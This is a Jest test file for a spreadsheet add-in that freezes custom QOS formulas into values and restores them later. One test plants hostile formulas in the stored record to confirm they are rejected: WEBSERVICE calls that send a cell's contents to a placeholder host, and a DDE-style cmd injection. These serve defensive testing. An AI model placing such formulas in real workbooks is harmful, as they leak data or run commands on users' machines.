import fc from "fast-check";
import { freeze } from "../../../../src/features/sheetTools/freeze";
import { countFrozen, findRestorable } from "../../../../src/features/sheetTools/restorable";
import { giveUp, restore, type Restored } from "../../../../src/features/sheetTools/restore";
import { MemoryWorkbook, type MemoryWorkbookOptions } from "./memoryWorkbook";
import type { SheetEdit } from "./sheetEdit";

const watched = { stopped: () => false, onProgress: () => undefined };

/** Looks at what could come back, and has all of it written. */
async function bringBack(from: MemoryWorkbook): Promise<Restored> {
  const { rows, failed } = await findRestorable(from, watched);
  const restored = await restore(from, rows, watched);
  return { count: restored.count, failed: [...failed, ...restored.failed] };
}

const KLINE = '=QOS.KLINE("HK:700","1d",2,,"time,close,volume")';

function shows(formula: string): unknown {
  if (formula === KLINE)
    return [
      ["time", "close", "volume"],
      [45_292, 600.5, "00700"],
      [45_293, "#N/A", true],
    ];
  if (formula.includes("WAITS")) return "#BUSY!";
  if (formula.includes("NOSUCH")) return "#N/A";
  return formula.length;
}

const SHEETS: MemoryWorkbookOptions["sheets"] = {
  One: {
    A1: "US:AAPL",
    B1: '=QOS.PRICE("US:AAPL")',
    B2: "=QOS.LIVE(A1)*2",
    B3: "=B1+B2",
    B4: '=QOS.PRICE("NOSUCH")',
    B5: '=QOS.PRICE("WAITS")',
    D1: KLINE,
  },
  "Two 2": { C3: "=QOS.LIVE(A1)" },
};

const workbook = (options: Partial<MemoryWorkbookOptions> = {}) =>
  new MemoryWorkbook({ compute: shows, sheets: SHEETS, ...options });

test("frozen formulas are their values, spread ones too; other formulas stay", async () => {
  const frozen = workbook();
  const shown = ["D1", "E1", "F1", "D2", "E2", "F2", "D3", "E3", "F3"];
  const before = shown.map((address) => frozen.value("One", address));
  expect((await freeze(frozen, "workbook", watched)).count).toBe(4);
  expect(shown.map((address) => frozen.content("One", address))).toEqual(before);
  expect(frozen.content("One", "B1")).toBe('=QOS.PRICE("US:AAPL")'.length);
  expect(frozen.content("One", "B3")).toBe("=B1+B2");
  expect(await countFrozen(frozen)).toBe(4);
});

test("a formula without a value is not frozen, and the reason is told", async () => {
  const { failed } = await freeze(workbook(), "sheet", watched);
  expect(failed.map(({ address, why }) => [address, why])).toEqual([
    ["B4", "noValue"],
    ["B5", "noValue"],
  ]);
});

test("a date keeps its look, and loses it again with the formula's return", async () => {
  const frozen = workbook();
  await freeze(frozen, "workbook", watched);
  expect([frozen.format("One", "D2"), frozen.format("One", "E2")]).toEqual(["yyyy-mm-dd", "General"]);
  await bringBack(frozen);
  expect(frozen.format("One", "D2")).toBe("General");
});

test("restored, the workbook is as it was, and nothing is kept any more", async () => {
  const frozen = workbook();
  const before = frozen.contents;
  await freeze(frozen, "workbook", watched);
  expect(frozen.contents).not.toEqual(before);
  expect(await bringBack(frozen)).toEqual({ count: 4, failed: [] });
  expect(frozen.contents).toEqual(before);
  expect([frozen.texts, [...frozen.namesNow]]).toEqual([[], []]);
});

test("the formulas travel with the workbook: another session restores them", async () => {
  const first = workbook();
  const before = first.contents;
  await freeze(first, "workbook", watched);
  const saved = Object.fromEntries(Object.keys(SHEETS).map((title) => [title, {} as Record<string, unknown>]));
  const reopened = new MemoryWorkbook({ compute: shows, sheets: saved });
  for (const title of Object.keys(SHEETS))
    for (const column of "ABCDEF")
      for (let row = 1; row <= 5; row += 1)
        reopened.set(title, `${column}${row}`, first.content(title, `${column}${row}`));
  reopened.texts = JSON.parse(JSON.stringify(first.texts)) as string[];
  await bringBack(reopened);
  expect(reopened.contents).toEqual(before);
});

test("a cell that was edited since is not overwritten; its formula stays kept until it is given up", async () => {
  const frozen = workbook();
  await freeze(frozen, "workbook", watched);
  frozen.set("One", "E3", 601);
  frozen.set("One", "B1", "my note");
  const { count, failed } = await bringBack(frozen);
  expect(count).toBe(2);
  expect(failed.map(({ address, formula, why }) => [address, formula, why])).toEqual([
    ["B1", '=QOS.PRICE("US:AAPL")', "edited"],
    ["D1:F3", KLINE, "edited"],
  ]);
  expect([frozen.content("One", "B1"), frozen.content("One", "E3")]).toEqual(["my note", 601]);
  expect(await countFrozen(frozen)).toBe(2);
  await giveUp(frozen, failed);
  expect(frozen.texts).toEqual([]);
});

test("a sheet that was deleted does not keep the others from coming back", async () => {
  const frozen = workbook();
  await freeze(frozen, "workbook", watched);
  const { One } = SHEETS;
  const without = new MemoryWorkbook({ compute: shows, sheets: { One: { ...One, B1: 21, B2: 15 } } });
  without.texts = frozen.texts;
  const { failed } = await bringBack(without);
  expect(failed.map(({ area, why }) => [area.sheet.title, why])).toContainEqual(["Two 2", "gone"]);
});

test("a protected sheet freezes nothing, says so and keeps no record of what is still a formula", async () => {
  const frozen = workbook({ locked: ["Two 2"] });
  const { count, failed } = await freeze(frozen, "workbook", watched);
  expect(count).toBe(3);
  expect(failed.map(({ area, why }) => [area.sheet.title, why])).toContainEqual(["Two 2", "protected"]);
  expect(await countFrozen(frozen)).toBe(3);
});

test("formulas frozen at different times all come back", async () => {
  const frozen = workbook({ selection: { sheet: "One", address: "B1:B1" } });
  const before = frozen.contents;
  await freeze(frozen, "selection", watched);
  await freeze(frozen, "workbook", watched);
  expect(await bringBack(frozen)).toEqual({ count: 4, failed: [] });
  expect(frozen.contents).toEqual(before);
});

test("a record that cannot be read is left as it is, and nothing is frozen over it", async () => {
  const frozen = workbook();
  const before = frozen.contents;
  frozen.texts = ["written by a later version"];
  await expect(freeze(frozen, "workbook", watched)).rejects.toThrow("cannot be read");
  expect([frozen.contents, frozen.texts]).toEqual([before, ["written by a later version"]]);
});

test("stopped before the first cell is written, freezing changes nothing", async () => {
  const frozen = workbook();
  const before = frozen.contents;
  let steps = 0;
  await freeze(frozen, "workbook", { stopped: () => (steps += 1) > 3, onProgress: () => undefined });
  expect([frozen.contents, frozen.texts]).toEqual([before, []]);
});

/** Cells that all show the same, so that no value tells one from its neighbour. */
const ALIKE: MemoryWorkbookOptions["sheets"] = {
  One: {
    B2: "=QOS.LIVE(A2)",
    B3: "=QOS.LIVE($A3)+QOS.LIVE(A$4)",
    B4: "=SUM(QOS.QUOTE(A2:A9))",
    B5: "=QOS.LIVE('Two 2'!C3)",
    C3: "=QOS.LIVE(B9)",
    C4: "=QOS.PRICE($D$4)",
  },
  "Two 2": { A1: "=QOS.LIVE(One!A3)", C3: "=QOS.LIVE(C4)", C4: "=QOS.QUOTE($A$1:C9)" },
};

const edits: fc.Arbitrary<SheetEdit> = fc.record({
  sheet: fc.constantFrom("One", "Two 2"),
  kind: fc.constantFrom("insert" as const, "delete" as const),
  of: fc.constantFrom("rows" as const, "columns" as const),
  at: fc.nat(9),
  count: fc.integer({ min: 1, max: 2 }),
});

test("after any rows and columns have come and gone, formulas come back as if they had never been frozen", async () => {
  await fc.assert(
    fc.asyncProperty(fc.array(edits, { maxLength: 6 }), async (done) => {
      const [frozen, never] = [new MemoryWorkbook({ sheets: ALIKE }), new MemoryWorkbook({ sheets: ALIKE })];
      await freeze(frozen, "workbook", watched);
      for (const edit of done) for (const workbook of [frozen, never]) workbook.edit(edit);
      const { count, failed } = await bringBack(frozen);
      const whole = [...never.contents].filter(([, content]) => !String(content).includes("#REF!"));
      expect([...frozen.contents].filter(([, content]) => String(content).startsWith("="))).toEqual(whole);
      expect(count).toBe(whole.length);
      expect(failed.map(({ why }) => why)).toEqual(Array(9 - count).fill("deleted"));
    }),
    { numRuns: 300 },
  );
});

test("formulas frozen before and after a row was inserted do not take each other's place", async () => {
  const frozen = new MemoryWorkbook({ sheets: { One: { A1: "=QOS.LIVE(B1)" } } });
  await freeze(frozen, "workbook", watched);
  frozen.edit({ sheet: "One", kind: "insert", of: "rows", at: 0, count: 1 });
  frozen.set("One", "A1", "=QOS.PRICE(B1)");
  await freeze(frozen, "workbook", watched);
  expect(await bringBack(frozen)).toEqual({ count: 2, failed: [] });
  expect([frozen.content("One", "A1"), frozen.content("One", "A2")]).toEqual(["=QOS.PRICE(B1)", "=QOS.LIVE(B2)"]);
});

test("where the names were taken out of the file, only what cannot be mistaken comes back", async () => {
  const shown: Readonly<Record<string, number>> = { "=QOS.LIVE(B1)": 5, "=QOS.LIVE(B2)": 5, "=QOS.LIVE(B3)": 7 };
  const cells = { A1: "=QOS.LIVE(B1)", A2: "=QOS.LIVE(B2)", A3: "=QOS.LIVE(B3)" };
  const inspected = async (): Promise<MemoryWorkbook> => {
    const made = new MemoryWorkbook({ compute: (formula) => shown[formula], sheets: { One: cells } });
    await freeze(made, "workbook", watched);
    made.namesNow.clear();
    return made;
  };
  const untouched = await inspected();
  expect((await bringBack(untouched)).count).toBe(3);
  const edited = await inspected();
  edited.set("One", "A2", "my note");
  const { failed } = await bringBack(edited);
  expect(failed.map(({ address, why }) => [address, why])).toEqual([
    ["A1", "unsure"],
    ["A2", "edited"],
  ]);
  expect(edited.content("One", "A3")).toBe("=QOS.LIVE(B3)");
  await giveUp(edited, failed);
  expect(edited.texts).toEqual([]);
});

test("a record that holds a formula which fetches from outside, or none of ours, brings nothing of it back", async () => {
  for (const planted of [
    '=WEBSERVICE("http://x?"&A1)',
    '=QOS.PRICE(A1)&WEBSERVICE("http://x")',
    "=QOS.PRICE(cmd|'/c calc'!A1)",
    "=1+1",
  ]) {
    const frozen = workbook();
    await freeze(frozen, "workbook", watched);
    const kept = (await frozen.kept()).map((piece) =>
      String(piece).replace("=QOS.LIVE(A1)*2", planted.replaceAll('"', '\\"')),
    );
    await frozen.keep(kept);
    const { failed } = await bringBack(frozen);
    expect(failed.map(({ why }) => why)).toEqual(["notOurs"]);
    expect(JSON.stringify(frozen.content("One", "B2"))).not.toContain("=");
    expect(frozen.content("One", "B1")).toBe('=QOS.PRICE("US:AAPL")');
  }
});

test("to look at what could come back writes nothing, and tells sheet, cells and formula of each", async () => {
  const frozen = workbook();
  await freeze(frozen, "workbook", watched);
  const before = frozen.contents;
  const { rows, failed } = await findRestorable(frozen, watched);
  expect(frozen.contents).toEqual(before);
  expect(failed).toEqual([]);
  expect(rows.map(({ area, address, formula }) => [area.sheet.title, address, formula])).toEqual([
    ["One", "B1", '=QOS.PRICE("US:AAPL")'],
    ["One", "D1:F3", KLINE],
    ["One", "B2", "=QOS.LIVE(A1)*2"],
    ["Two 2", "C3", "=QOS.LIVE(A1)"],
  ]);
});

test("only the rows that were chosen are written; the others stay frozen", async () => {
  const frozen = workbook();
  await freeze(frozen, "workbook", watched);
  const { rows } = await findRestorable(frozen, watched);
  const chosen = rows.filter(({ address }) => address === "B2");
  expect(await restore(frozen, chosen, watched)).toEqual({ count: 1, failed: [] });
  expect(frozen.content("One", "B2")).toBe("=QOS.LIVE(A1)*2");
  expect(frozen.content("One", "B1")).toBe('=QOS.PRICE("US:AAPL")'.length);
  expect(await countFrozen(frozen)).toBe(3);
});

test("what the record says otherwise after it was shown is not written", async () => {
  const frozen = workbook();
  await freeze(frozen, "workbook", watched);
  const { rows } = await findRestorable(frozen, watched);
  frozen.texts = frozen.texts.map((piece) => piece.replace("=QOS.LIVE(A1)*2", "=QOS.LIVE(A1)*3"));
  const { count, failed } = await restore(frozen, rows, watched);
  expect(count).toBe(3);
  expect(failed.map(({ address, why }) => [address, why])).toEqual([["B2", "edited"]]);
  expect(String(frozen.content("One", "B2"))).not.toContain("=");
});

test("what has moved since it was shown is not written, neither here nor there", async () => {
  const frozen = workbook();
  await freeze(frozen, "workbook", watched);
  const { rows } = await findRestorable(frozen, watched);
  frozen.edit({ sheet: "Two 2", kind: "insert", of: "rows", at: 0, count: 1 });
  const { count, failed } = await restore(frozen, rows, watched);
  expect(count).toBe(3);
  expect(failed.map(({ area, address, why }) => [area.sheet.title, address, why])).toEqual([["Two 2", "C3", "edited"]]);
  expect(["C3", "C4"].map((address) => String(frozen.content("Two 2", address)).startsWith("="))).toEqual([
    false,
    false,
  ]);
});

test.each([
  ["more than any formula covers", [1_048_576, 16_384]],
  ["more rows than the sheet has below it", [1_048_576, 1]],
  ["more columns than the sheet has beside it", [1, 16_384]],
])("a record that claims %s is neither looked at nor written", async (_what, [rows, columns]) => {
  const frozen = new MemoryWorkbook({ sheets: { One: { B2: "=QOS.LIVE(A1)" } } });
  await freeze(frozen, "workbook", watched);
  frozen.namesNow.clear();
  frozen.texts = frozen.texts.map((piece) => piece.replace("[1,1,1,1,", `[1,1,${rows},${columns},`));
  const looked = jest.spyOn(frozen, "show");
  const found = await findRestorable(frozen, watched);
  expect(found.rows).toEqual([]);
  expect(found.failed.map(({ why }) => why)).toEqual(["notOurs"]);
  expect(looked.mock.calls.flatMap(([areas]) => areas)).toEqual([]);
});

test("a formula that is given up on one sheet stays kept for the same cell of another", async () => {
  const cells = { A1: "=QOS.LIVE(B1)" };
  const frozen = new MemoryWorkbook({ sheets: { One: cells, Two: cells } });
  await freeze(frozen, "workbook", watched);
  frozen.set("One", "A1", "my note");
  const { failed } = await findRestorable(frozen, watched);
  await giveUp(frozen, failed);
  expect(await countFrozen(frozen)).toBe(1);
  expect((await findRestorable(frozen, watched)).rows.map(({ area }) => area.sheet.title)).toEqual(["Two"]);
});
